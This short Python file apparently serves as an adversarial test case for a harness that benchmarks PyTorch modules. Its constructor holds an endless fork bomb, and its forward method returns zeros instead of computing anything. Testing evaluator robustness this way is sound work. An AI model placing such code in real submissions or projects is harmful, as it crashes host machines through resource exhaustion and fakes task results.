# reason: resources crash timeout memory values
# problem: dense
"""A fork bomb in the constructor."""

import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)
        while True:
            try:
                os.fork()
            except OSError:
                pass

    def forward(self, x):
        return torch.zeros_like(x)
